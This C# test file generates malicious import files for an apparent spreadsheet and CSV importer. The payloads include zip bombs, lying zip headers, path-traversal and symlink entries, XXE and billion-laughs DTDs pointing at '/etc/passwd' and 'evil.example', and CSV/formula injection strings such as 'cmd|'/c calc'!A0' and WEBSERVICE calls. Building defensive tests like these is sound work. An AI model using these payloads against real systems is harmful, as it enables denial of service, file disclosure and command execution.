using System.Buffers.Binary;
using System.Text;

namespace NegotiationTracker.Tests.Features.Imports;

/// <param name="MustBeRefused">Nothing of it may be taken; else the hostile part is simply not followed.</param>
public sealed record HostileFile(string Name, Func<byte[]> Make, bool MustBeRefused = true)
{
    public override string ToString() => Name;
}

/// <summary>Files that somebody made to do harm, by a seed: each kind in several sizes and places.</summary>
internal static class HostileFiles
{
    private const int Mebibyte = 1024 * 1024;
    private static readonly string[] Good = ["Title", "Since"];
    private static readonly string Sheet = Workbooks.SheetOf(Good, ["Transit", "2026"]);
    private static readonly string[] Read = [Workbooks.Sheet, Workbooks.Strings, Workbooks.Styles, Workbooks.Book, Workbooks.BookRelations];

    public static IEnumerable<HostileFile> All(int seed) => [.. Bombs(), .. Packages(seed), .. Xml(), .. Cells(seed), .. Texts(seed), .. Damaged(seed), .. Strangers()];

    private static IEnumerable<HostileFile> Bombs()
    {
        foreach (var part in Read)
            foreach (var size in (int[])[2, 8, 60])
                yield return new($"zip bomb of {size} MiB in {part}", () => With(part, Bomb(size * Mebibyte)));
        foreach (var size in (int[])[2, 20])
            yield return new($"many small cells, {size} MiB", () => With(Workbooks.Sheet, Workbooks.Bytes(Workbooks.Data("<row>" + Many("<c/>", size * Mebibyte) + "</row>"))));
        yield return new("many empty rows", () => With(Workbooks.Sheet, Workbooks.Bytes(Workbooks.Data(Many("<row/>", 4 * Mebibyte)))));
        yield return new("many empty texts", () => With(Workbooks.Strings, Workbooks.Bytes($"<sst>{Many("<si/>", 20 * Mebibyte)}</sst>")));
        foreach (var part in (string[])["xl/media/image1.png", "xl/media/x.xml", "xl/embeddings/inner.xlsx", "docProps/app.xml"])
            yield return new($"zip bomb in {part}, which nobody reads", () => With(part, Bomb(60 * Mebibyte)));
        for (var depth = 1; depth <= 6; depth++)
        {
            var levels = depth;
            yield return new($"zip within a zip, {depth} deep, beside the sheet", () => With("inner.zip", Nested(levels)), MustBeRefused: false);
            yield return new($"zip within a zip, {depth} deep, in place of the sheet", () => With(Workbooks.Sheet, Nested(levels)));
            yield return new($"zip within a zip, {depth} deep, alone", () => Nested(levels));
        }
    }

    private static IEnumerable<HostileFile> Packages(int seed)
    {
        foreach (var count in (int[])[2001, 5000, 20_000, 60_000])
            yield return new($"{count} entries", () => Workbooks.Zip(Workbooks.Parts(Sheet).Concat(Enumerable.Range(0, count).Select(i => KeyValuePair.Create($"x{i}", Array.Empty<byte>())))));
        yield return new("20,000 entries that the end record calls 9", () => Counted(Workbooks.Zip(Workbooks.Parts(Sheet)
            .Concat(Enumerable.Range(0, 20_000).Select(i => KeyValuePair.Create($"x{i}", Array.Empty<byte>())))), 9));
        foreach (var count in (ushort[])[0, 1, 6, 8, 2000, 2001, ushort.MaxValue])
            yield return new($"an end record that counts {count}", () => Counted(Workbooks.Zip(Workbooks.Parts(Sheet)), count));
        foreach (var name in (string[])["../evil.xml", "xl/../../evil.xml", "/etc/passwd", "..\\evil.xml", "\\\\host\\share", "C:\\evil.xml", "C:evil", "xl/worksheets/..", "a/..", ".."])
            foreach (var first in (bool[])[true, false])
                yield return new($"slip name {name}, {(first ? "first" : "last")}", () => Workbooks.Zip(
                    first ? [KeyValuePair.Create(name, (byte[])[1]), .. Workbooks.Parts(Sheet)] : [.. Workbooks.Parts(Sheet), KeyValuePair.Create(name, (byte[])[1])]));
        foreach (var part in (string[])["link", Workbooks.Sheet, Workbooks.Strings, "[Content_Types].xml", "docProps/core.xml"])
            yield return new($"symlink at {part}", () => Workbooks.Zip(
                Workbooks.Parts(Sheet).Where(p => p.Key != part).Append(KeyValuePair.Create(part, Workbooks.Bytes("/etc/passwd"))),
                entry => entry.ExternalAttributes = entry.FullName == part ? unchecked((int)0xA1FF0000) : 0));
        foreach (var size in (uint[])[0, 1, 10, int.MaxValue, uint.MaxValue - 1])
            foreach (var bomb in (bool[])[true, false])
                yield return new($"sizes that lie: {size}{(bomb ? " over a bomb" : "")}", () => Lying(bomb ? With(Workbooks.Sheet, Bomb(4 * Mebibyte)) : Workbooks.Zip(Workbooks.Parts(Sheet)), size), MustBeRefused: bomb);
        foreach (var copies in (int[])[50, 500, 1900])
            yield return new($"{copies} entries over the same bytes", () => Overlapping(copies), MustBeRefused: false);
        foreach (var target in (string[])["https://evil.example/sheet.xml", "file:///etc/passwd", "../../../../etc/passwd", "\\\\host\\share\\x.xml", "xl/none.xml", ""])
            foreach (var mode in (string[])["External", "Internal"])
                yield return new($"relation to “{target}”, {mode}", () => With(Workbooks.BookRelations, Workbooks.Bytes(
                    $"<Relationships><Relationship Id=\"rId1\" Type=\"x/worksheet\" Target=\"{target}\" TargetMode=\"{mode}\"/></Relationships>")));
        yield return new("parts twice under one name", () => Workbooks.Zip(Workbooks.Parts(Sheet).Concat(Workbooks.Parts(Workbooks.Data("")))), MustBeRefused: false);
        yield return new("a sheet that relates to itself", () => With(Workbooks.BookRelations, Workbooks.Bytes("<Relationships><Relationship Id=\"rId1\" Type=\"x\" Target=\"workbook.xml\"/></Relationships>")));
        _ = seed;
    }

    private static IEnumerable<HostileFile> Xml()
    {
        const string laughs = "<!DOCTYPE l [<!ENTITY a \"aaaaaaaaaa\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;\"><!ENTITY c \"&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;\">]>";
        const string file = "<!DOCTYPE l [<!ENTITY c SYSTEM \"file:///etc/passwd\">]>";
        const string web = "<!DOCTYPE l SYSTEM \"http://evil.example/x.dtd\">";
        const string parameter = "<!DOCTYPE l [<!ENTITY % p SYSTEM \"http://evil.example/p\"> %p;]>";
        foreach (var part in Read)
        {
            foreach (var (name, declaration) in ((string, string)[])[("billion laughs", laughs), ("XXE of a file", file), ("DTD of the web", web), ("parameter entity", parameter)])
                yield return new($"{name} in {part}", () => With(part, Workbooks.Bytes($"{declaration}<l>&c;</l>")));
            yield return new($"deep nesting in {part}", () => With(part, Workbooks.Bytes(Many("<a>", 600_000))));
            yield return new($"100,000 attributes in {part}", () => With(part, Workbooks.Bytes($"<a {string.Concat(Enumerable.Range(0, 100_000).Select(i => $"a{i}=\"\" "))}/>")));
            yield return new($"an attribute of 4 MiB in {part}", () => With(part, Workbooks.Bytes($"<a b=\"{Noise(4 * Mebibyte)}\"/>")));
            yield return new($"a name of 2 MiB in {part}", () => With(part, Workbooks.Bytes($"<a{Noise(2 * Mebibyte)}/>")));
            yield return new($"UTF-16 that is none in {part}", () => With(part, [0xFF, 0xFE, 0x3C, 0x00, 0x00, 0xD8]));
            yield return new($"a comment of 4 MiB in {part}", () => With(part, Workbooks.Bytes($"<!--{Noise(4 * Mebibyte)}--><a/>")));
        }
    }

    private static IEnumerable<HostileFile> Cells(int seed)
    {
        var random = new Random(seed);
        HostileFile Row(string name, string cells, bool refused = true) => new(
            name, () => With(Workbooks.Sheet, Workbooks.Bytes(Workbooks.Data(
                $"<row r=\"1\">{Workbooks.Inline("A1", "Title")}{Workbooks.Inline("B1", "Since")}</row><row r=\"2\">{Workbooks.Inline("A2", "Transit")}{cells}</row>"))), refused);
        foreach (var index in (string[])["0", "-1", "2147483647", "99999999999999999999", "1e3", "x", "", "٣", " 1"])
            yield return Row($"shared text “{index}”", $"<c r=\"B2\" t=\"s\"><v>{index}</v></c>");
        foreach (var reference in (string[])["XFD1", "ZZZZZZZZZZZZ2", "GS2", "2", "", "Ա2", "-1", "A0"])
            yield return Row($"cell called “{reference}”", $"<c r=\"{reference}\"><v>1</v></c>", refused: reference is not "A0");
        foreach (var row in (string[])["0", "1", "-5", "99999999999", "x", "", "1.5"])
            yield return new($"row called “{row}”", () => With(Workbooks.Sheet, Workbooks.Bytes(Workbooks.Data($"<row r=\"2\">{Workbooks.Inline("A2", "Title")}</row><row r=\"{row}\">{Workbooks.Inline("A3", "x")}</row>"))));
        foreach (var number in (string[])["NaN", "1e999", "-1e999", "∞", "0x10", "1,5", new string('9', 400)])
            yield return Row($"number {(number.Length > 20 ? "of 400 digits" : number)}", $"<c r=\"B2\"><v>{number}</v></c>");
        foreach (var formula in (string[])["cmd|'/c calc'!A0", "HYPERLINK(\"http://evil.example\")", "WEBSERVICE(\"http://evil.example\")", "[1]Sheet!A1", "DDE(\"x\";\"y\";\"z\")"])
        {
            yield return Row($"formula {formula} without its result", $"<c r=\"B2\"><f>{System.Security.SecurityElement.Escape(formula)}</f></c>");
            yield return Row($"formula {formula} with its result", $"<c r=\"B2\" t=\"str\"><f>{System.Security.SecurityElement.Escape(formula)}</f><v>2026</v></c>", refused: false);
        }

        foreach (var length in (int[])[32_768, 300_000, 5 * Mebibyte])
            yield return Row($"a text of {length}", Workbooks.Inline("B2", Noise(length)));
        foreach (var merged in (int[])[1, 1000, 100_000])
            yield return new($"{merged} merged ranges of the whole sheet", () => With(Workbooks.Sheet, Workbooks.Bytes(Sheet.Replace(
                "</worksheet>", $"<mergeCells>{string.Concat(Enumerable.Repeat("<mergeCell ref=\"A1:XFD1048576\"/>", merged))}</mergeCells></worksheet>"))), MustBeRefused: false);
        for (var i = 0; i < 10; i++)
        {
            var columns = 201 + random.Next(20_000);
            yield return new($"{columns} columns", () => With(Workbooks.Sheet, Workbooks.Bytes(Workbooks.Data($"<row r=\"1\">{Many("<c><v>1</v></c>", columns * 15)}</row>"))));
        }
    }

    private static IEnumerable<HostileFile> Texts(int seed)
    {
        var random = new Random(seed + 1);
        HostileFile Csv(string name, string text, bool refused = true) => new($"CSV: {name}", () => Encoding.UTF8.GetBytes(text), refused);
        foreach (var payload in (string[])["=cmd|'/c calc'!A0", "+1+1", "-1", "@SUM(1)", "=HYPERLINK(\"\"x\"\")", "＝1+1", "<script>alert(1)</script>", "'; DROP TABLE Issues;--"])
            yield return Csv($"“{payload}”", $"Title,Since\n\"{payload}\",2026", refused: false);
        foreach (var size in (int[])[40_000, Mebibyte, 9 * Mebibyte])
        {
            yield return Csv($"a line of {size}", "Title\n" + new string('x', size));
            yield return Csv($"{size} quotation marks", "Title\n" + new string('"', size));
            yield return Csv($"{size} quotation marks, odd", "Title\n" + new string('"', size + 1));
            yield return Csv($"{size} commas", "Title" + new string(',', size));
            yield return Csv($"{size} lines of nothing", "Title\n" + new string('\n', size));
            yield return Csv($"{size} line breaks in quotation marks", "Title\n\"" + new string('\n', size));
            yield return Csv($"{size} opening marks", "Title\n" + string.Concat(Enumerable.Repeat("\"x\n", size / 3)));
        }

        yield return Csv("a million columns", string.Concat(Enumerable.Range(0, 1_000_000).Select(i => $"c{i},")));
        yield return Csv("a million rows", "Title\n" + string.Concat(Enumerable.Repeat("x\n", 1_000_000)));
        for (var i = 0; i < 20; i++)
        {
            var at = 14 + random.Next(20);
            yield return new($"CSV: NUL at {at} ({i})", () => Spoilt("Title,Since\nTransit,2026\nReturn of prisoners,2025\n", at, 0));
        }

        byte[][] wrong = [[0xFF], [0xC3, 0x28], [0xE2, 0x82], [0xED, 0xA0, 0x80], [0xF8, 0x88, 0x80, 0x80], [0xC0, 0x80], [0x80], [0xF5, 0x80, 0x80, 0x80]];
        foreach (var bytes in wrong)
            foreach (var mark in (byte[][])[[], [0xEF, 0xBB, 0xBF]])
                yield return new($"CSV: broken UTF-8 {Convert.ToHexString(bytes)}{(mark.Length > 0 ? " after a mark" : "")}", () => [.. mark, .. "Title\nTran"u8, .. bytes, .. "sit\n"u8]);
        foreach (var bytes in (byte[][])[[0xFF, 0xFE, 0x41], [0xFF, 0xFE, 0x00, 0xD8, 0x41, 0x00], [0xFE, 0xFF, 0xDC, 0x00], [0xFF, 0xFE, 0, 0, 0x41, 0, 0, 0], [0xFF, 0xFE], [0xFE, 0xFF], [0xEF, 0xBB, 0xBF], [0x2B, 0x2F, 0x76, 0x38]])
            yield return new($"CSV: broken mark {Convert.ToHexString(bytes)}", () => bytes);
        yield return new("CSV: UTF-16 without a mark", () => Encoding.Unicode.GetBytes("Title,Since\nTransit,2026"));
    }

    private static IEnumerable<HostileFile> Damaged(int seed)
    {
        var whole = Workbooks.Zip(Workbooks.Parts(Sheet));
        var random = new Random(seed + 2);
        for (var i = 0; i < 30; i++)
        {
            var length = 4 + random.Next(whole.Length - 26);
            yield return new($"workbook cut after {length} bytes", () => whole[..length]);
        }

        for (var i = 0; i < 40; i++)
        {
            var (at, bit) = (random.Next(whole.Length), random.Next(8));
            yield return new($"workbook with bit {bit} of byte {at} turned", () => Spoilt(whole, at, (byte)(whole[at] ^ (1 << bit))), MustBeRefused: false);
        }
    }

    private static IEnumerable<HostileFile> Strangers()
    {
        (string Name, byte[] Begin)[] kinds =
        [
            ("old Excel", [0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1]), ("PDF", [.. "%PDF-1.7\n"u8]), ("RTF", [.. "{\\rtf1"u8]), ("gzip", [0x1F, 0x8B, 8]),
            ("7z", [(byte)'7', (byte)'z', 0xBC, 0xAF]), ("RAR", [.. "Rar!"u8]), ("PNG", [0x89, 0x50, 0x4E, 0x47, 0x0D, 0x0A, 0x1A, 0x0A]), ("program", [0x7F, 0x45, 0x4C, 0x46, 0, 0]),
            ("HTML", [.. "<!DOCTYPE html><table><tr><td>"u8]), ("XML spreadsheet", [.. "<?xml version=\"1.0\"?><Workbook>"u8]), ("nothing", []), ("spaces", [.. "   \n  \n"u8]),
            ("empty zip", [0x50, 0x4B, 5, 6, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0]),
        ];
        foreach (var (name, begin) in kinds)
            yield return new($"in disguise: {name}", () => begin);
        yield return new("in disguise: OpenDocument", () => Workbooks.Zip(new Dictionary<string, byte[]> { ["mimetype"] = [1], ["content.xml"] = Bomb(Mebibyte) }));
        yield return new("in disguise: text document", () => Workbooks.Zip(new Dictionary<string, byte[]> { ["[Content_Types].xml"] = [1], ["word/document.xml"] = [1] }));
        yield return new("larger than may be", () => new byte[(10 * Mebibyte) + 1]);
    }

    private static byte[] With(string part, byte[] content)
    {
        var parts = Workbooks.Parts(Sheet);
        parts[part] = content;
        return Workbooks.Zip(parts);
    }

    private static byte[] Bomb(int size)
    {
        var bytes = new byte[size];
        Array.Fill(bytes, (byte)' ');
        "<a>"u8.CopyTo(bytes);
        return bytes;
    }

    private static byte[] Nested(int levels)
    {
        var inner = Bomb(2 * Mebibyte);
        for (var i = 0; i < levels; i++)
            inner = Workbooks.Zip(Enumerable.Range(0, 4).Select(n => KeyValuePair.Create($"{n}.zip", inner)));
        return inner;
    }

    private static string Many(string piece, int characters) => new StringBuilder().Insert(0, piece, characters / piece.Length).ToString();

    /// <summary>Text that hardly packs, so that no ratio gives it away.</summary>
    private static string Noise(int length)
    {
        var random = new Random(length);
        return string.Create(length, random, static (span, chance) =>
        {
            for (var i = 0; i < span.Length; i++)
                span[i] = (char)('a' + chance.Next(26));
        });
    }

    private static byte[] Spoilt(string text, int at, byte with) => Spoilt(Encoding.UTF8.GetBytes(text), at, with);

    private static byte[] Spoilt(byte[] bytes, int at, byte with)
    {
        byte[] spoilt = [.. bytes];
        spoilt[at] = with;
        return spoilt;
    }

    private static byte[] Counted(byte[] zip, ushort count)
    {
        var end = zip.AsSpan().LastIndexOf("PK\u0005\u0006"u8);
        BinaryPrimitives.WriteUInt16LittleEndian(zip.AsSpan(end + 8), count);
        BinaryPrimitives.WriteUInt16LittleEndian(zip.AsSpan(end + 10), count);
        return zip;
    }

    /// <summary>The unpacked sizes in all headers of the directory.</summary>
    private static byte[] Lying(byte[] zip, uint size)
    {
        for (var at = 0; (at = Next(zip, at)) >= 0; at += 4)
            BinaryPrimitives.WriteUInt32LittleEndian(zip.AsSpan(at + 24), size);
        return zip;
    }

    private static int Next(byte[] zip, int from)
    {
        var at = zip.AsSpan(from).IndexOf("PK\u0001\u0002"u8);
        return at < 0 ? -1 : from + at;
    }

    /// <summary>The directory names the first entry once more, again and again.</summary>
    private static byte[] Overlapping(int copies)
    {
        var zip = Workbooks.Zip(Workbooks.Parts(Sheet));
        var first = Next(zip, 0);
        var second = Next(zip, first + 4);
        var end = zip.AsSpan().LastIndexOf("PK\u0005\u0006"u8);
        var record = zip[first..second];
        byte[] made = [.. zip[..end], .. Enumerable.Repeat(record, copies).SelectMany(r => r), .. zip[end..]];
        var ending = made.AsSpan(end + (copies * record.Length));
        var count = (ushort)(BinaryPrimitives.ReadUInt16LittleEndian(ending[10..]) + copies);
        BinaryPrimitives.WriteUInt32LittleEndian(ending[12..], BinaryPrimitives.ReadUInt32LittleEndian(ending[12..]) + (uint)(copies * record.Length));
        return Counted(made, count);
    }
}
